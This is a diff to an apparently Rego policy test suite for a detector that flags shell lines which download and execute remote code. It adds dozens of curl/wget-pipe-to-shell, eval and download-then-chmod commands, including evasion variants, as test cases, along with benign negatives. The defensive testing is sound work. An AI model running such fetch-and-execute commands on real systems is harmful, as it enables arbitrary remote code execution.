@@ -21,6 +21,29 @@ test_what_runs_an_answer_is_found if {
 		"/bin/bash -c \"`wget -O- https://example.com/x`\"",
 		"eval \"$(curl https://example.com/x)\"",
 		"source <(curl https://example.com/x)",
+		"curl x | sudo -u root bash",
+		"curl x | env bash",
+		"curl x | /usr/bin/env A=b bash",
+		"curl x |& bash",
+		"curl -s https://example.com \\\n | sh",
+		". <(curl x)",
+		"bash < <(curl x)",
+		"curl 'https://example.com/;a' | sh",
+		"//usr/bin/curl x | sh",
+		"\"curl\" x | 'sh'",
+		"sh <<< \"$(/usr/bin/curl x)\"",
+		"curl x | xargs -0 sh -c",
+		"curl x | ash",
+		"curl x | php",
+		"curl\thttps://x\t|\tbash",
+		"wget -O x.sh https://example.com/y && sh x.sh",
+		"curl --output=/tmp/x.sh https://example.com/y\nbash -e /tmp/x.sh",
+		"curl https://example.com/y > x\n. ./x",
+		"wget https://example.com/x.sh?a=1; sudo bash x.sh",
+		"curl -fsSLo /opt/x https://example.com/y\nchmod +x /opt/x",
+		"curl -o /opt/x https://example.com/y\nchmod 0755 /opt/x",
+		"X=$(curl https://example.com); eval \"$X\"",
+		"X=`curl https://example.com`\nsh -c \"${X}\"",
 	] {
 		in_content(line) == {at}
 	}
@@ -35,6 +58,11 @@ test_other_uses_pass if {
 		"echo curl | shasum",
 		"cat /opt/install.sh | sh",
 		"libcurl | sh",
+		"//",
+		"curl -o /opt/x.json https://example.com/y\nsh /opt/app/start",
+		"curl https://example.com/y | sudo tee /opt/x.sh",
+		"sh /opt/x.sh",
+		"curl -o /opt/x.json https://example.com/y\nchmod 0644 /opt/x.json",
 	] {
 		in_content(line) == set()
 	}
@@ -42,6 +70,12 @@ test_other_uses_pass if {
 
 test_sources_are_read_too if {
 	found({"files": [{"path": "/a", "source": "files/a"}]}, {"files/a": "#!/bin/sh\ncurl https://example.com/x | sh"}) == {["sources", "files/a", 1]}
+}
+
+test_comments_fetch_nothing if in_content("//\tcurl x | sh\n#curl x | sh") == set()
+
+test_what_one_file_fetches_another_may_run if {
+	found({"files": [{"path": "/a", "content": "curl -o x.sh https://example.com/y"}, {"path": "/b", "content": "curl x; sh x.sh"}]}, {}) == set()
 }
 
 test_commands_are_read if {
